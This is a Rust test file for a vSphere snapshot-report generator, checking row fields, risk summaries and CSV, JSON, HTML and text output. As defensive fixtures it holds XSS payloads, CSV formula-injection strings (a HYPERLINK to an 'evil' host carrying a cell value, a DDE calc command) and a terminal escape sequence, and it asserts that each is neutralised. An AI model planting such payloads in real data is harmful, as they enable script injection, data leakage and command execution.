//! The report on hand-built inventories: row fields, risks, and each format read back.

use super::*;
use crate::collector::test_support::config;
use crate::vsphere::model::{
    ComputeResource, Datacenter, Folder, Host, LayoutEx, LayoutFile, MoRef, SnapshotInfo,
    SnapshotLayout, SnapshotTree,
};

const NOW: f64 = 1_795_428_000.0; // 2026-11-23T10:00:00Z
const HOUR: f64 = 3600.0;
const SCRIPT: &str = "<script>alert(1)</script>";
const IMG: &str = "\"><img src=x onerror=\"window.__xss=1\">";

fn snap(id: &str, name: &str, hours_ago: f64, children: Vec<SnapshotTree>) -> SnapshotTree {
    SnapshotTree {
        snapshot: id.into(),
        name: name.into(),
        description: format!("about {id}"),
        create_time_seconds: NOW - hours_ago * HOUR,
        quiesced: name.contains("VEEAM"),
        child_snapshot_list: children,
        ..Default::default()
    }
}

fn file(key: i32, name: &str, size: u64) -> LayoutFile {
    LayoutFile {
        key,
        name: name.into(),
        size,
        ..Default::default()
    }
}

/// DC0 / cluster C0 / host esx1 with: vm-1 `db` (10 GiB of disk) and a chain of three
/// snapshots, `<script>…` 100 h old (old), `"><img…` 50 h old and a Veeam snapshot 10 h old (a
/// leftover backup, current); vm-2 `web` needing consolidation, its Tools an upgrade; vm-3 a
/// template with old Tools and vm-4 with open-vm-tools (unmanaged), neither a risk.
fn inventory() -> Inventory {
    let mut inv = Inventory::default();
    inv.datacenters.insert(
        "datacenter-2".into(),
        Datacenter {
            id: "datacenter-2".into(),
            name: "DC0".into(),
        },
    );
    inv.folders.insert(
        "group-h4".into(),
        Folder {
            id: "group-h4".into(),
            name: "host".into(),
            parent: Some(MoRef::new("Datacenter", "datacenter-2")),
        },
    );
    inv.compute_resources.insert(
        "domain-c7".into(),
        ComputeResource {
            id: "domain-c7".into(),
            name: "C0".into(),
            is_cluster: true,
            parent: Some(MoRef::new("Folder", "group-h4")),
        },
    );
    inv.hosts.insert(
        "host-9".into(),
        Host {
            id: "host-9".into(),
            name: "esx1".into(),
            parent: Some(MoRef::new("ClusterComputeResource", "domain-c7")),
            ..Default::default()
        },
    );
    let db = Vm {
        id: "vm-1".into(),
        name: "db".into(),
        host: Some("host-9".into()),
        devices: crate::vsphere::model::Devices {
            disks: vec![crate::vsphere::model::Disk {
                capacity_bytes: Some(10 << 30),
                ..Default::default()
            }],
            ..Default::default()
        },
        tools_version_status2: Some("guestToolsCurrent".into()),
        snapshot: Some(SnapshotInfo {
            current_snapshot: Some("snapshot-3".into()),
            root_snapshot_list: vec![snap(
                "snapshot-1",
                SCRIPT,
                100.0,
                vec![snap(
                    "snapshot-2",
                    IMG,
                    50.0,
                    vec![snap(
                        "snapshot-3",
                        "VEEAM BACKUP TEMPORARY SNAPSHOT",
                        10.0,
                        vec![],
                    )],
                )],
            )],
        }),
        layout_ex: Some(LayoutEx {
            file: vec![
                file(1, "[ds1] db/db.vmx", 3000),
                file(2, "[ds1] db/db-Snapshot1.vmsn", 1 << 20),
                file(3, "[ds2] db/db-Snapshot2.vmsn", 1 << 20),
                file(4, "[ds1] db/db-Snapshot3.vmsn", 1 << 20),
            ],
            disk: vec![],
            snapshot: vec![
                SnapshotLayout {
                    key: "snapshot-1".into(),
                    data_key: 2,
                    disk: vec![],
                },
                SnapshotLayout {
                    key: "snapshot-2".into(),
                    data_key: 3,
                    disk: vec![],
                },
            ],
        }),
        ..Default::default()
    };
    let web = Vm {
        id: "vm-2".into(),
        name: "web".into(),
        consolidation_needed: true,
        tools_version_status2: Some("guestToolsNeedUpgrade".into()),
        ..Default::default()
    };
    let template = Vm {
        id: "vm-3".into(),
        name: "tpl".into(),
        template: true,
        tools_version_status2: Some("guestToolsTooOld".into()),
        ..Default::default()
    };
    let linux = Vm {
        id: "vm-4".into(),
        name: "linux".into(),
        tools_version_status2: Some("guestToolsUnmanaged".into()),
        ..Default::default()
    };
    for vm in [db, web, template, linux] {
        inv.vms.insert(vm.id.clone(), Arc::new(vm));
    }
    inv
}

fn report() -> Report {
    let inv = inventory();
    let part = Part {
        status: VcenterStatus {
            name: "vc01".into(),
            synced: true,
            last_update_seconds: NOW - 5.0,
            error: None,
        },
        inventory: Some(&inv),
        events: None,
        tags: None,
    };
    let down = Part {
        status: VcenterStatus {
            name: "vc02".into(),
            synced: false,
            last_update_seconds: 0.0,
            error: Some("connection refused".into()),
        },
        inventory: None,
        events: None,
        tags: None,
    };
    Report::build(&[part, down], &config(), NOW)
}

#[test]
fn rows_carry_placement_tree_facts_and_the_datastore_of_the_data_file() {
    let rows = rows("vc01", &inventory(), None, &config(), NOW);
    let ids: Vec<&str> = rows.iter().map(|r| r.snapshot_id.as_str()).collect();
    assert_eq!(ids, ["snapshot-1", "snapshot-2", "snapshot-3"]);
    let first = &rows[0];
    assert_eq!(
        first,
        &Row {
            vcenter: "vc01".into(),
            datacenter_name: "DC0".into(),
            cluster_name: "C0".into(),
            host_name: "esx1".into(),
            datastore_name: "ds1".into(),
            vm_id: "vm-1".into(),
            vm_name: "db".into(),
            snapshot_id: "snapshot-1".into(),
            snapshot_name: SCRIPT.into(),
            description: "about snapshot-1".into(),
            backup_product: String::new(),
            created: "2026-11-19T06:00:00Z".into(),
            age_seconds: 360_000,
            created_by: None,
            size_bytes: 1 << 20,
            disk_share: Some(1.0 / 10240.0),
            quiesced: false,
            depth: 1,
            consolidation_needed: false,
            last_backup: None,
            disks_not_snapshotted: String::new(),
            foreign_disks: String::new(),
        }
    );
    assert_eq!(rows[1].datastore_name, "ds2");
    assert_eq!(rows[1].depth, 2);
    // No layout entry for snapshot-3: the VM's first file names the datastore.
    assert_eq!(rows[2].datastore_name, "ds1");
    assert_eq!(rows[2].backup_product, "veeam");
    assert!(rows[2].quiesced);
    assert_eq!(rows[2].age_seconds, 36_000);
}

#[test]
fn created_by_comes_from_the_event_ledger_and_last_backup_from_attributes_and_notes() {
    let mut inv = inventory();
    inv.custom_fields.insert(
        101,
        crate::vsphere::model::CustomField {
            name: "Rubrik_Latest_Backup".into(),
            managed_object_type: "VirtualMachine".into(),
        },
    );
    let db = Arc::make_mut(inv.vms.get_mut("vm-1").unwrap());
    db.backup.custom_values = vec![(101, "2026-11-23T08:59:59.500Z".into())];
    // An older Veeam line in the notes: the newest time of any source is the last backup.
    db.backup.annotation =
        "Veeam Backup: Job name: [DB], Time: [11/22/2026 11:15:02 PM], Result: Success".into();
    let mut ledger = Ledger::default();
    ledger.add_creation(crate::backup::history::Creation {
        vm: "vm-1".into(),
        started_seconds: NOW - 50.0 * HOUR - 20.0,
        complete_seconds: Some(NOW - 50.0 * HOUR + 2.0),
        snapshot: None,
        user: "VSPHERE.LOCAL\\svc-backup".into(),
    });
    let with_events = rows("vc01", &inv, Some(&ledger), &config(), NOW);
    // snapshot-2 was taken 50 h ago, inside that creation; the others match no creation.
    assert_eq!(
        with_events
            .iter()
            .map(|r| r.created_by.as_deref())
            .collect::<Vec<_>>(),
        [None, Some("VSPHERE.LOCAL\\svc-backup"), None]
    );
    assert!(
        with_events
            .iter()
            .all(|r| r.last_backup.as_deref() == Some("2026-11-23T08:59:59.5Z"))
    );
    // Without the ledger (no event follower) nobody is named; the last backup stays.
    let without = rows("vc01", &inv, None, &config(), NOW);
    assert!(without.iter().all(|r| r.created_by.is_none()));
    assert_eq!(
        without[0].last_backup.as_deref(),
        Some("2026-11-23T08:59:59.5Z")
    );
}

#[test]
fn risks_count_leftover_backups_old_snapshots_consolidation_and_tools() {
    let report = report();
    let risk = |key: &str| {
        let r = report.risks.iter().find(|r| r.key == key).unwrap();
        (r.count, r.named.clone())
    };
    assert_eq!(
        risk("leftover_backup_snapshots"),
        (1, vec!["db: VEEAM BACKUP TEMPORARY SNAPSHOT".to_owned()])
    );
    assert_eq!(risk("old_snapshots"), (1, vec![format!("db: {SCRIPT}")]));
    assert_eq!(risk("consolidation_needed"), (1, vec!["web".to_owned()]));
    // The template and the open-vm-tools (unmanaged) VM are not counted.
    assert_eq!(risk("tools_not_current"), (1, vec!["web".to_owned()]));
    assert_eq!(
        report.failed().map(|v| v.name.as_str()).collect::<Vec<_>>(),
        ["vc02"]
    );
}

#[test]
fn risks_follow_the_configured_ages() {
    let inv = inventory();
    let mut config = config();
    config.report.old_snapshot_age = Duration::from_secs(40 * 3600);
    config.report.leftover_backup_age = Duration::from_secs(11 * 3600);
    let part = Part {
        status: VcenterStatus {
            name: "vc01".into(),
            synced: true,
            last_update_seconds: NOW,
            error: None,
        },
        inventory: Some(&inv),
        events: None,
        tags: None,
    };
    let report = Report::build(&[part], &config, NOW);
    let count = |key: &str| report.risks.iter().find(|r| r.key == key).unwrap().count;
    assert_eq!(count("old_snapshots"), 2);
    assert_eq!(count("leftover_backup_snapshots"), 0);
    assert_eq!(report.risks[1].title, "Snapshots older than 40h");
}

#[test]
fn csv_has_the_field_names_as_header_and_quotes_hostile_names() {
    let report = report();
    let bytes = report.render(Format::Csv).unwrap();
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert!(
        text.starts_with(&(csv::HEADER.join(",") + "\r\n")),
        "{text}"
    );
    // RFC 4180: a field with a quote is quoted, its quotes doubled.
    assert!(text.contains("\"\"\"><img src=x onerror=\"\"window.__xss=1\"\">\""));
    let mut reader = ::csv::Reader::from_reader(&bytes[..]);
    let records: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 3);
    let header = reader.headers().unwrap().clone();
    let field = |r: &::csv::StringRecord, name: &str| {
        let i = header.iter().position(|h| h == name).unwrap();
        r[i].to_owned()
    };
    assert_eq!(field(&records[1], "snapshot_name"), IMG);
    assert_eq!(field(&records[1], "created_by"), "");
    assert_eq!(field(&records[2], "quiesced"), "true");
    assert_eq!(
        field(&records[0], "disk_share"),
        (1.0f64 / 10240.0).to_string()
    );
}

#[test]
fn csv_of_no_snapshots_is_the_header_alone() {
    let report = Report::build(&[], &config(), NOW);
    let text = String::from_utf8(report.render(Format::Csv).unwrap()).unwrap();
    assert_eq!(text, csv::HEADER.join(",") + "\r\n");
}

#[test]
fn json_is_an_array_of_rows_with_nulls_for_the_unknown() {
    let report = report();
    let value: serde_json::Value =
        serde_json::from_slice(&report.render(Format::Json).unwrap()).unwrap();
    let rows = value.as_array().unwrap();
    assert_eq!(rows.len(), 3);
    let keys: Vec<&str> = rows[0]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    let mut want = csv::HEADER.to_vec();
    want.sort_unstable();
    let mut keys = keys;
    keys.sort_unstable();
    assert_eq!(keys, want);
    assert_eq!(rows[0]["snapshot_name"], SCRIPT);
    assert_eq!(rows[0]["created_by"], serde_json::Value::Null);
    assert_eq!(rows[0]["last_backup"], serde_json::Value::Null);
    assert_eq!(rows[0]["age_seconds"], 360_000);
    assert_eq!(rows[2]["backup_product"], "veeam");
}

#[test]
fn html_escapes_hostile_names_and_highlights_risky_rows() {
    let report = report();
    let page = String::from_utf8(report.render(Format::Html).unwrap()).unwrap();
    assert!(!page.contains(SCRIPT), "raw script tag in the page");
    assert!(!page.contains("<img"), "raw img tag in the page");
    assert!(
        page.contains("&#60;script&#62;alert(1)&#60;/script&#62;"),
        "{page}"
    );
    assert!(page.contains("&#34;&#62;&#60;img src=x onerror=&#34;window.__xss=1&#34;&#62;"));
    assert_eq!(page.matches("<tr class=\"old\"").count(), 1);
    assert_eq!(page.matches("<tr class=\"leftover\"").count(), 1);
    assert_eq!(page.matches("<tbody>").count(), 1);
    assert_eq!(
        page.matches("<tr").count(),
        4,
        "a header row and 3 snapshots"
    );
    assert!(page.contains("vCenter <strong>vc02</strong>: not read: connection refused"));
    assert!(
        !page.contains("report.csv"),
        "the command's page links nothing"
    );
}

#[test]
fn the_served_page_links_csv_and_json() {
    let links = Links {
        csv: "/report.csv?target=vc01".into(),
        json: "/report.json?target=vc01".into(),
    };
    let page = String::from_utf8(report().render_html_page(links).unwrap()).unwrap();
    assert!(
        page.contains("<a href=\"/report.csv?target=vc01\">CSV</a>"),
        "{page}"
    );
    assert!(page.contains("<a href=\"/report.json?target=vc01\">JSON</a>"));
}

/// The text between the first `open` and the next `close`.
fn between<'a>(text: &'a str, open: &str, close: &str) -> &'a str {
    let start = text.find(open).unwrap() + open.len();
    let end = start + text[start..].find(close).unwrap();
    &text[start..end]
}

#[test]
fn the_content_security_policy_allows_exactly_the_inline_style_and_script() {
    let page = String::from_utf8(report().render(Format::Html).unwrap()).unwrap();
    let hash = |text: &str| {
        use base64::Engine as _;
        use sha2::Digest as _;
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(text.as_bytes()))
    };
    let policy = content_security_policy();
    let script = between(&page, "<script>", "</script>");
    let style = between(&page, "<style>", "</style>");
    assert!(script.contains("sortBy"));
    assert!(
        policy.contains(&format!("script-src 'sha256-{}'", hash(script))),
        "{policy}"
    );
    assert!(
        policy.contains(&format!("style-src 'sha256-{}'", hash(style))),
        "{policy}"
    );
    assert!(policy.starts_with("default-src 'none';"));
    assert_eq!(page.matches("<script").count(), 1);
}

#[test]
fn text_aligns_columns_flags_risks_and_keeps_names_on_one_line() {
    let inv = {
        let mut inv = inventory();
        let vm = inv.vms.get_mut("vm-1").unwrap();
        let tree = &mut Arc::make_mut(vm)
            .snapshot
            .as_mut()
            .unwrap()
            .root_snapshot_list[0];
        tree.name = "two\nlines\u{1b}[31m".into();
        inv
    };
    let part = Part {
        status: VcenterStatus {
            name: "vc01".into(),
            synced: true,
            last_update_seconds: NOW,
            error: None,
        },
        inventory: Some(&inv),
        events: None,
        tags: None,
    };
    let text = String::from_utf8(
        Report::build(&[part], &config(), NOW)
            .render(Format::Text)
            .unwrap(),
    )
    .unwrap();
    assert!(!text.contains('\u{1b}'));
    assert!(text.starts_with("vSphere snapshot report, 2026-11-23T10:00:00Z\n"));
    assert!(text.contains("\nLeftover backup snapshots (a backup product's, older than 6h): 1 (db: VEEAM BACKUP TEMPORARY SNAPSHOT)\n"), "{text}");
    assert!(text.contains("\nVMs whose disks need consolidation: 1 (web)\n"));
    let table: Vec<&str> = text
        .lines()
        .skip_while(|l| !l.contains("VCENTER"))
        .collect();
    assert_eq!(table.len(), 4, "{text}");
    let column = table[0].find("SNAPSHOT").unwrap();
    assert!(table[1][column..].starts_with("two lines [31m"), "{text}");
    assert!(table[1].starts_with('*'), "old: {}", table[1]);
    assert!(table[3].starts_with('!'), "leftover: {}", table[3]);
    // Right-aligned under its heading.
    let age_end = table[0].find("AGE").unwrap() + "AGE".len();
    assert!(table[1][..age_end].ends_with(" 4d 4h"), "{}", table[1]);
}

#[test]
fn human_units_read_naturally() {
    assert_eq!(human_age(0), "0s");
    assert_eq!(human_age(59), "59s");
    assert_eq!(human_age(3600), "1h");
    assert_eq!(human_age(3 * 86_400 + 4 * 3600 + 5), "3d 4h");
    assert_eq!(human_age(-90), "-1m 30s");
    assert_eq!(human_bytes(512), "512 B");
    assert_eq!(human_bytes(3 << 30), "3.0 GiB");
    assert_eq!(human_share(Some(0.0512)), "5.1 %");
    assert_eq!(human_share(Some(0.0004)), "0.04 %");
    assert_eq!(human_share(None), "");
    assert_eq!(human_duration(Duration::from_secs(72 * 3600)), "72h");
    assert_eq!(human_duration(Duration::from_secs(90 * 60)), "90m");
}

#[test]
fn csv_text_cells_that_start_like_a_formula_get_a_quote_and_json_keeps_them() {
    let mut report = report();
    let hostile = [
        ("description", "=HYPERLINK(\"https://evil/?\"&A2,\"x\")"),
        ("vm_name", "+cmd|' /C calc'!A0"),
        ("snapshot_name", "-2+3"),
        ("created_by", "@SUM(1+1)"),
        ("datastore_name", "\tds"),
        ("host_name", "\r=esx"),
    ];
    {
        let row = &mut report.rows[0];
        row.description = hostile[0].1.to_owned();
        row.vm_name = hostile[1].1.to_owned();
        row.snapshot_name = hostile[2].1.to_owned();
        row.created_by = Some(hostile[3].1.to_owned());
        row.datastore_name = hostile[4].1.to_owned();
        row.host_name = hostile[5].1.to_owned();
        row.age_seconds = -5;
    }
    let bytes = report.render(Format::Csv).unwrap();
    let mut reader = ::csv::Reader::from_reader(&bytes[..]);
    let header = reader.headers().unwrap().clone();
    let records: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let field = |r: &::csv::StringRecord, name: &str| {
        let i = header.iter().position(|h| h == name).unwrap();
        r[i].to_owned()
    };
    for (name, value) in hostile {
        assert_eq!(field(&records[0], name), format!("'{value}"), "{name}");
    }
    // A number stays a number; text that does not start like a formula is unchanged.
    assert_eq!(field(&records[0], "age_seconds"), "-5");
    assert_eq!(field(&records[1], "snapshot_name"), IMG);
    assert_eq!(field(&records[0], "vm_id"), "vm-1");
    let json: serde_json::Value =
        serde_json::from_slice(&report.render(Format::Json).unwrap()).unwrap();
    assert_eq!(json[0]["description"], hostile[0].1);
    assert_eq!(json[0]["vm_name"], hostile[1].1);
}

#[test]
fn the_no_policy_line_names_powered_on_vms_without_a_policy_tag() {
    use crate::source::tags::{AttachedTag, VmTags};
    let mut inv = inventory();
    let ids: Vec<String> = inv.vms.keys().cloned().collect();
    for (i, id) in ids.iter().enumerate() {
        let vm = std::sync::Arc::make_mut(inv.vms.get_mut(id).unwrap());
        vm.power_state = if i == 0 { "poweredOff" } else { "poweredOn" }.into();
        vm.template = false;
    }
    // The second VM has a policy tag, the third only an owner tag, the others none.
    let mut tags = VmTags::default();
    let tag = |category: &str| AttachedTag {
        category: category.into(),
        tag: "x".into(),
    };
    tags.vms.insert(ids[1].clone(), vec![tag("Backup Policy")]);
    if let Some(third) = ids.get(2) {
        tags.vms.insert(third.clone(), vec![tag("Owner")]);
    }
    let mut config = config();
    let part = |tags| Part {
        status: VcenterStatus {
            name: "vc01".into(),
            synced: true,
            last_update_seconds: NOW,
            error: None,
        },
        inventory: Some(&inv),
        events: None,
        tags,
    };
    let build = |config: &Config, tags| Report::build(&[part(tags)], config, NOW);
    let line = |report: &Report| {
        report
            .risks
            .iter()
            .find(|r| r.key == "not_in_backup_policy")
            .cloned()
    };
    assert!(
        line(&build(&config, Some(&tags))).is_none(),
        "no policy categories: no line"
    );
    config.tags.backup_policy_categories = vec!["Backup Policy".into()];
    let risk = line(&build(&config, Some(&tags))).unwrap();
    let mut want: Vec<String> = ids[2..].iter().map(|id| inv.vms[id].name.clone()).collect();
    want.sort();
    want.truncate(MAX_NAMED);
    assert_eq!(risk.named, want);
    assert_eq!(risk.count, ids.len() - 2);
    assert_eq!(
        risk.title,
        "Powered-on VMs in no backup policy (no tag of Backup Policy)"
    );
    let risk = line(&build(&config, None)).unwrap();
    assert_eq!(risk.count, 0);
    assert!(
        risk.title.ends_with("; tags not read for vc01"),
        "{}",
        risk.title
    );
}
